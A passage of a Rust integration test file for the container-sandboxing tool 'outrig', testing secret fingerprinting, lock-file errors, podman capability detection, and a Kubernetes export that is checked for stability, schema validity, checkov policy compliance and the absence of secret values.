        fingerprint(&bob),
        "another user's key, another fingerprint"
    );
    let key = alice.join("outrig/fingerprint.key");
    let mode = std::fs::metadata(&key).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    // The unkeyed hash of the value is not the fingerprint.
    let plain = blake3::hash(SECRET.as_bytes()).to_hex()[..12].to_string();
    assert_ne!(first, plain);
}

/// A damaged `outrig.lock` stops plan and apply with an error naming the file and the
/// way out; `--locked` without a lock refuses before anything starts.
#[test]
fn a_bad_lock_is_a_clear_error() {
    let project = Project::new();
    let run = project
        .context
        .run(&["apply", "--auto-approve", "--locked"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stderr.contains("`--locked` needs `") && run.stderr.contains("run `outrig lock`"),
        "{}",
        run.stderr
    );
    for (text, cause) in [
        (
            "version = 1\n[servers.x\n",
            "outrig.lock` is not a valid outrig lock",
        ),
        ("version = 9\n", "format version 9, this outrig reads 1"),
        ("version = 1\nsurprise = true\n", "unknown field `surprise`"),
    ] {
        project.context.write("outrig.lock", text);
        for command in [&["plan"][..], &["apply", "--auto-approve"]] {
            let run = project.context.run(command);
            assert_eq!(run.status, 1, "{command:?} {text:?}: {}", run.all());
            assert!(
                run.stderr.contains(cause),
                "{command:?} {text:?}: {}",
                run.stderr
            );
            assert!(
                run.stderr.contains("restore it from version control"),
                "{}",
                run.stderr
            );
        }
    }
}

/// What podman reports of itself shapes the plan: rootless podman on cgroups v1 cannot
/// hold a sandbox to its limits, so they are not passed and the security section says so;
/// a remote engine relays servers' stdio with `podman exec --interactive`.
#[test]
fn the_engine_podman_reports_shapes_the_plan() {
    let project = Project::new();
    std::fs::write(
        project.fake.join("info.json"),
        r#"{"host":{"serviceIsRemote":true,"cgroupVersion":"v1","cgroupControllers":["cpu","memory","pids"],"security":{"rootless":true}},"store":{"graphDriverName":"vfs"}}"#,
    )
    .unwrap();
    let run = project.context.run(&["plan", "--verbose"]);
    assert_eq!(run.status, 0, "{}", run.all());
    for expected in [
        "on remote podman (rootless, cgroups v1): servers talk over `podman exec --interactive`",
        "! sandbox.tools   pids-limit (512) and memory (2g) are not enforced by this podman (cgroups v1, rootless)",
        "--userns=keep-id",
        "note: this podman stores containers with vfs, which copies the whole image",
    ] {
        assert!(run.stdout.contains(expected), "{expected}:\n{}", run.stdout);
    }
    assert!(!run.stdout.contains("--pids-limit"), "{}", run.stdout);
    assert!(!run.stdout.contains("--preserve-fds"), "{}", run.stdout);

    // An answer outrig cannot read is a clear error naming the command, not a guess.
    std::fs::write(project.fake.join("info.json"), "not json").unwrap();
    let run = project.context.run(&["plan"]);
    assert_eq!(run.status, 1, "{}", run.all());
    assert!(
        run.stderr.contains("podman's answer could not be read")
            && run.stderr.contains("info --format json"),
        "{}",
        run.stderr
    );
}

/// The Kubernetes export: plan data, byte-stable, with no secret value in any file; as
/// JSON (`plan --target kube --json`) the same manifests the YAML holds; within the
/// Kubernetes OpenAPI schemas and checkov's security checks (each waiver in
/// doc/kubernetes.md).
#[test]
fn kube_export_is_stable_valid_and_holds_no_secret() {
    let project = Project::new();
    let config = CONFIG.replace(
        "[images.tools.mcp.time]",
        "egress = [\"api.example.com:443\", \"10.1.2.0/24:8080\"]\ntmpfs = [\"/run\"]\n\n[images.tools.mcp.time]",
    );
    project.context.write("outrig.toml", &config);
    std::fs::write(
        project.fake.join("images.json"),
        r#"[{"Id": "p1", "Names": ["localhost/outrig-proxy:bookworm"]}]"#,
    )
    .unwrap();
    let pod = project.context.run(&["export", "kube"]);
    assert_eq!(pod.status, 0, "{}", pod.all());
    insta::assert_snapshot!("kube-pod", pod.stdout);
    let again = project.context.run(&["export", "kube"]);
    assert_eq!(again.stdout, pod.stdout, "the export is byte-stable");
    let sandbox = project.context.run(&[
        "export",
        "kube",
        "--format",
        "agent-sandbox",
        "--warm-pool",
        "2",
        "--runtime-class",
        "gvisor",
        "--workspace",
        "git=https://api.example.com/team/repo.git",
        "--namespace",
        "agents",
    ]);
    assert_eq!(sandbox.status, 0, "{}", sandbox.all());
    insta::assert_snapshot!("kube-agent-sandbox", sandbox.stdout);
    for run in [&pod, &sandbox] {
        assert!(!run.all().contains(SECRET), "{}", run.all());
        assert!(
            run.stderr
                .contains("kubectl create secret generic outrig-demo-tools-env")
        );
    }

    let out = project.context.path().join("kube");
    let written = project
        .context
        .run(&["export", "kube", "--out", out.to_str().unwrap()]);
    assert_eq!(written.status, 0, "{}", written.all());
    let mut files: Vec<PathBuf> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    for file in &files {
        let text = std::fs::read_to_string(file).unwrap();
        assert!(!text.contains(SECRET), "{}", file.display());
    }
    let manifests: Vec<&PathBuf> = files
        .iter()
        .filter(|f| {
            f.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with(char::is_numeric)
        })
        .collect();

    // The YAML reads back as exactly the manifests of the JSON.
    let json = project.context.run(&["plan", "--target", "kube", "--json"]);
    assert_eq!(json.status, 0, "{}", json.all());
    let export: Value = serde_json::from_str(&json.stdout).unwrap();
    let expected: Vec<Value> = export["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["manifest"].clone())
        .collect();
    let python = kube_tools().map(|tools| tools.join("bin/python"));
    if let Some(python) = &python {
        let read = std::process::Command::new(python)
            .args([
                "-c",
                "import json, sys, yaml; print(json.dumps([yaml.safe_load(open(f)) for f in sys.argv[1:]]))",
            ])
            .args(&manifests)
            .output()
            .unwrap();
        assert!(
            read.status.success(),
            "{}",
            String::from_utf8_lossy(&read.stderr)
        );
        let read: Vec<Value> = serde_json::from_slice(&read.stdout).unwrap();
        assert_eq!(read, expected);
    }
    let human = project.context.run(&["plan", "--target", "kube"]);
    assert_eq!(human.status, 0, "{}", human.all());
    assert!(
        human.stdout.contains("Pod/outrig-demo-tools") && human.stdout.contains("Security"),
        "{}",
        human.stdout
    );

    let Some(tools) = kube_tools() else {
        return;
    };
    held_to_kubernetes(&tools, &out, &manifests);

    // An agent-sandbox template: its pod, the same pod, is held to the same checks (the
    // template itself is a custom resource, which the schemas do not know).
    let sandbox_out = project.context.path().join("kube-sandbox");
    let written = project.context.run(&[
        "export",
        "kube",
        "--format",
        "agent-sandbox",
        "--out",
        sandbox_out.to_str().unwrap(),
    ]);
    assert_eq!(written.status, 0, "{}", written.all());
    let template = std::fs::read_dir(&sandbox_out)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|f| f.to_string_lossy().contains("-sandboxtemplate-"))
        .unwrap();
    let pods = project.context.path().join("kube-template-pod");
    std::fs::create_dir_all(&pods).unwrap();
    let pod = pods.join("pod.yaml");
    let convert = std::process::Command::new(tools.join("bin/python"))
        .args([
            "-c",
            "import json, sys, yaml; t = yaml.safe_load(open(sys.argv[1])); \
             meta = dict(t['metadata'], **t['spec']['podTemplate']['metadata']); \
             json.dump({'apiVersion': 'v1', 'kind': 'Pod', 'metadata': meta, \
             'spec': t['spec']['podTemplate']['spec']}, open(sys.argv[2], 'w'))",
        ])
        .arg(&template)
        .arg(&pod)
        .output()
        .unwrap();
    assert!(
        convert.status.success(),
        "{}",
        String::from_utf8_lossy(&convert.stderr)
    );
    // With the policies that select it.
    for policy in std::fs::read_dir(&sandbox_out).unwrap() {
        let policy = policy.unwrap().path();
        if policy.to_string_lossy().contains("-networkpolicy-") {
            std::fs::copy(&policy, pods.join(policy.file_name().unwrap())).unwrap();
        }
    }
    held_to_kubernetes(&tools, &pods, &[&pod]);
}

/// `kubernetes-validate --strict` (Kubernetes 1.37) on `files`, and checkov's Kubernetes
/// checks on every manifest in `dir`, but for the waivers doc/kubernetes.md gives reasons
/// for. (Named file by file: checkov skips directories whose names start with a dot, as
/// temporary ones do.)
fn held_to_kubernetes(tools: &Path, dir: &Path, files: &[&PathBuf]) {
    let validate = std::process::Command::new(tools.join("bin/kubernetes-validate"))
        .args(["--strict", "--quiet", "--kubernetes-version", "1.37.0"])
        .args(files)
        .output()
        .unwrap();
    assert!(
        validate.status.success(),
        "{}{}",
        String::from_utf8_lossy(&validate.stdout),
        String::from_utf8_lossy(&validate.stderr)
    );
    let waived = waived_checks();
    let mut checkov = std::process::Command::new(tools.join("bin/checkov"));
    checkov
        .args(["--framework", "kubernetes", "--compact", "--skip-download"])
        .args(["--skip-check", &waived.join(",")])
        .env("BC_SKIP_MAPPING", "TRUE")
        .env("CHECKOV_RUN_SCA_PACKAGE_SCAN_V2", "false");
    for entry in std::fs::read_dir(dir).unwrap() {
        let file = entry.unwrap().path();
        if file.extension().is_some_and(|e| e == "yaml")
            && file.file_name().unwrap() != "kustomization.yaml"
        {
            checkov.arg("--file").arg(file);
        }
    }
    let checkov = checkov.output().unwrap();
    let report = String::from_utf8_lossy(&checkov.stdout);
    assert!(
        checkov.status.success(),
        "checkov found failed checks in {}:\n{report}{}",
        dir.display(),
        String::from_utf8_lossy(&checkov.stderr)
    );
    let passed: usize = report
        .lines()
        .find_map(|l| l.strip_prefix("Passed checks: "))
        .and_then(|rest| rest.split(',').next()?.parse().ok())
        .unwrap_or(0);
    assert!(passed > 50, "checkov checked too little: {report}");
}

/// The checks doc/kubernetes.md waives, each with its reason there.
fn waived_checks() -> Vec<String> {
    let doc = std::fs::read_to_string(repo_root().join("doc/kubernetes.md")).unwrap();
    let waived: Vec<String> = doc
        .lines()
        .filter_map(|line| {
            let check = line.strip_prefix("| ")?.split_whitespace().next()?;
            check.starts_with("CKV").then(|| check.to_string())
        })
        .collect();
    assert!(
        !waived.is_empty(),
        "doc/kubernetes.md lists the waived checks"
    );
    waived
}

/// kubernetes-validate and checkov, installed by scripts/install-test-tools.sh; in CI their
/// absence fails.
fn kube_tools() -> Option<PathBuf> {
    let tools = std::env::var_os("OUTRIG_TEST_TOOLS")
        .map(PathBuf::from)
        .unwrap_or_else(|| repo_root().join("target/test-tools"))
        .join("kube");
    if tools.join("bin/checkov").is_file() {
        return Some(tools);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "kubernetes-validate and checkov must run in CI; scripts/install-test-tools.sh installs them"
    );
    eprintln!("SKIPPED the Kubernetes schema and policy checks: run scripts/install-test-tools.sh");
    None
}
